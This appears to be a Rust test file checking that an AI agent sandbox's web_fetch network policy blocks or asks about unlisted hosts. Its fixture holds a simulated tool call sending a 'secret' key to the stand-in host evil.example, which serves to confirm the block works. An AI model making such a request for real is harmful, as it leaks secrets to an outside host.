//! `web_fetch` under the sandbox's network rule (`WebFetchPolicy`): a URL is a way out, so a
//! closed sandbox refuses unlisted hosts under `auto` and asks under `ask`.

use super::*;
use crate::sandbox::{WebFetchNetwork, WebFetchPolicy};

fn with(approval: ApprovalPolicy, network: WebFetchNetwork) -> H {
    let mut c = config(approval);
    c.web_fetch = WebFetchPolicy {
        network,
        allow: vec!["docs.rs".into()],
    };
    let mut h = H::new(c);
    h.submit("x");
    h.sse(&tool_answer(&[
        (
            "c1",
            "web_fetch",
            r#"{"url":"https://evil.example/?k=secret"}"#,
        ),
        ("c2", "web_fetch", r#"{"url":"https://docs.rs/serde"}"#),
    ]));
    h
}

fn ids(runs: &[ToolRun]) -> Vec<&str> {
    runs.iter().map(|r| r.call_id.as_str()).collect()
}

#[test]
fn closed_and_auto_refuses_unlisted_hosts_naming_the_keys() {
    let h = with(ApprovalPolicy::Auto, WebFetchNetwork::Closed);
    assert_eq!(ids(&h.runs), ["c2"], "the listed host runs");
    assert!(h.asks.is_empty());
    let r = h.results();
    assert_eq!(r[0].0, "c1");
    assert_eq!(r[0].1, ToolStatus::DeniedByPolicy);
    assert!(r[0].2.contains("\"sandboxNetwork\""), "{}", r[0].2);
    assert!(r[0].2.contains("\"webFetchAllow\""), "{}", r[0].2);
    assert!(r[0].2.contains("host evil.example"), "{}", r[0].2);
}

#[test]
fn closed_and_ask_asks_for_unlisted_hosts_only() {
    let mut h = with(ApprovalPolicy::Ask, WebFetchNetwork::Closed);
    assert_eq!(ids(&h.asks), ["c1"]);
    assert!(h.runs.is_empty(), "c2 waits for the call before it");
    h.s.handle_approval(h.now, "c1", Approval::Once).unwrap();
    h.drain();
    assert_eq!(ids(&h.runs), ["c1"]);
    h.s.handle_tool_output(h.now, "c1", ToolOutput::ok("page"))
        .unwrap();
    h.drain();
    assert_eq!(ids(&h.runs), ["c1", "c2"], "the listed host runs unasked");
    assert_eq!(h.asks.len(), 1);
}

#[test]
fn open_leaves_unlisted_hosts_to_the_approval_policy() {
    let h = with(ApprovalPolicy::Auto, WebFetchNetwork::Open);
    assert_eq!(ids(&h.runs), ["c1"], "runs, then c2 after it");
    assert!(h.results().is_empty());
    let h = with(ApprovalPolicy::Ask, WebFetchNetwork::Open);
    assert_eq!(ids(&h.asks), ["c1"]);
}

#[test]
fn read_only_approval_denies_even_listed_hosts() {
    let h = with(ApprovalPolicy::ReadOnly, WebFetchNetwork::Closed);
    assert!(h.runs.is_empty() && h.asks.is_empty());
    let r = h.results();
    assert_eq!(r.len(), 2);
    assert!(r.iter().all(|(_, s, _)| *s == ToolStatus::DeniedByPolicy));
    assert!(r[1].2.contains("read-only"), "{}", r[1].2);
}

#[test]
fn a_malformed_url_is_not_listed() {
    let mut c = config(ApprovalPolicy::Auto);
    c.web_fetch = WebFetchPolicy {
        network: WebFetchNetwork::Closed,
        allow: vec!["docs.rs".into()],
    };
    let mut h = H::new(c);
    h.submit("x");
    h.sse(&tool_answer(&[
        ("c1", "web_fetch", r#"{"url":7}"#),
        ("c2", "web_fetch", r#"{"url":"docs.rs"}"#),
        ("c3", "web_fetch", r#"{}"#),
    ]));
    assert!(h.runs.is_empty());
    let r = h.results();
    assert_eq!(r.len(), 3);
    assert!(r.iter().all(|(_, s, _)| *s == ToolStatus::DeniedByPolicy));
    assert!(r[0].2.contains("this URL"), "{}", r[0].2);
}
